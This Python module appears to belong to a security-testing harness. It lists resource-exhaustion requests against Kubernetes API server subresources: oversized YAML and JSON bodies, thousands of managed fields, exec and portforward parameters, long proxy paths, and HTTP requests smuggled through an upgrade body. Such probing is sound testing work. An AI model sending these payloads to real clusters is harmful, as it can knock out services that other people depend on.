"""Attacks by subresources, and by the options of deletions."""

from typing import Any

from hack.attacks.client import Answer, Door
from hack.attacks.costly.row import (
    APPS,
    CORE,
    DEFAULT,
    YAML,
    Attack,
    Row,
    after,
    pod,
    post,
    posting,
    workload,
)

POD = f"{DEFAULT}/pods/p"
MERGE = {"Content-Type": "application/merge-patch+json"}
UPGRADE = {
    "Connection": "Upgrade",
    "Upgrade": "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "YWFhYWFhYWFhYWFhYWFhYQ==",
}


def _yaml(version: str, kind: str, keys: int = 50_000) -> bytes:
    """Return an object with one unknown key again and again."""
    return f"apiVersion: {version}\nkind: {kind}\nmetadata: {{name: p}}\n".encode() + b"f: 1\n" * keys


def _on_pod(method: str, path: str, body: Any, headers: dict[str, str] | None = None) -> Attack:
    """Create a Pod, and send a request about it."""

    def attack(door: Door) -> list[Answer]:
        found = post(door, f"{DEFAULT}/pods", pod("p"))
        return [*found, door.ask(method, path, body() if callable(body) else body, headers)]

    return attack


def _asking(method: str, path: str, body: Any, headers: dict[str, str] | None = None) -> Attack:
    return lambda door: [door.ask(method, path, body() if callable(body) else body, headers)]


DEPLOYED = posting(f"{APPS}/deployments", workload("Deployment", replicas=0))
ROWS = [
    Row("an eviction in YAML", _on_pod("POST", f"{POD}/eviction", _yaml("policy/v1", "Eviction"), YAML)),
    Row("an eviction of megabytes", _on_pod("POST", f"{POD}/eviction", lambda: {"f": ["x"] * 500_000})),
    Row("a binding in YAML", _on_pod("POST", f"{POD}/binding", _yaml("v1", "Binding"), YAML)),
    Row("a binding of the old form", _on_pod("POST", f"{DEFAULT}/bindings", _yaml("v1", "Binding"), YAML)),
    Row("a token request in YAML", _asking(
        "POST", f"{DEFAULT}/serviceaccounts/default/token", _yaml("authentication.k8s.io/v1", "TokenRequest"), YAML)),
    Row("a token for many audiences", _asking(
        "POST", f"{DEFAULT}/serviceaccounts/default/token", lambda: {"spec": {"audiences": [f"a{n}" for n in range(100_000)]}})),
    Row("a scale in YAML", after(DEPLOYED, _asking(
        "PUT", f"{APPS}/deployments/a/scale", _yaml("autoscaling/v1", "Scale"), YAML))),
    Row("a scale of megabytes", after(DEPLOYED, _asking(
        "PATCH", f"{APPS}/deployments/a/scale", lambda: {f"k{n}": {"a": n} for n in range(60_000)}, MERGE))),
    Row("a scale with many managers", after(DEPLOYED, _asking(
        "PUT", f"{APPS}/deployments/a/scale", lambda: {"metadata": {"name": "a", "managedFields": [
            {"manager": f"m{n}", "operation": "Update", "apiVersion": "v1", "fieldsType": "FieldsV1", "fieldsV1": {"f:spec": {}}}
            for n in range(10_000)]}, "spec": {"replicas": 0}}))),
    Row("a status in YAML", _on_pod("PUT", f"{POD}/status", _yaml("v1", "Pod"), YAML)),
    Row("conditions by the thousand", _on_pod("PATCH", f"{POD}/status", lambda: {"status": {"conditions": [
        {"type": f"example.com/t{n}", "status": "True"} for n in range(10_000)]}}, MERGE)),
    Row("ephemeral containers by the thousand", _on_pod("PATCH", f"{POD}/ephemeralcontainers", lambda: {"spec": {
        "ephemeralContainers": [{"name": f"e{n}", "image": "i"} for n in range(5_000)]}},
        {"Content-Type": "application/strategic-merge-patch+json"})),
    Row("a resize in YAML", _on_pod("PUT", f"{POD}/resize", _yaml("v1", "Pod"), YAML)),
    Row("the end of a namespace in YAML", _asking("PUT", f"{CORE}/namespaces/default/finalize", _yaml("v1", "Namespace"), YAML)),
    Row("an approval in YAML", _asking(
        "PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/p/approval",
        _yaml("certificates.k8s.io/v1", "CertificateSigningRequest"), YAML)),
    Row("options of a deletion in YAML", _on_pod("DELETE", POD, _yaml("v1", "DeleteOptions"), YAML)),
    Row("options of a deletion of megabytes", _on_pod("DELETE", POD, lambda: {"f": ["x"] * 500_000})),
    Row("options of deletions in YAML", _asking("DELETE", f"{DEFAULT}/secrets", _yaml("v1", "DeleteOptions"), YAML)),
    Row("a command of many words", _asking("GET", f"{POD}/exec?" + "&".join(["command=a"] * 10_000), None, UPGRADE)),
    Row("forwarded ports by the thousand", _asking("GET", f"{POD}/portforward?" + "&".join(f"ports={n}" for n in range(8_000)), None, UPGRADE)),
    Row("a proxy's long path", _asking("GET", f"{POD}/proxy/" + "%2e/" * 20_000, None)),
    Row("a request within a body of an upgrade", _on_pod("POST", f"{DEFAULT}/pods/http:p:80/proxy/", lambda: (
        b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n" * 1_000), UPGRADE)),
    Row("a body of megabytes for a proxy", _on_pod("POST", f"{DEFAULT}/pods/http:p:80/proxy/", lambda: b"x" * 2_900_000)),
]  # fmt: skip
